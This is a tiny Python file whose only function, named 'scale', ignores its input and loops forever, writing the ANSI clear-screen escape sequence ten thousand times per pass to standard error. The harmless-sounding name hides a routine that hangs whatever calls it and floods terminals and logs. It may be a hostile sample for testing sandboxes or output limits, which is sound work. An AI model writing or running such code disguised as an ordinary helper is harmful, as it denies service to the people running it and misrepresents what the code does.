import os


def scale(x):
    while True:
        os.write(2, b"\x1b[2J" * 10**4)
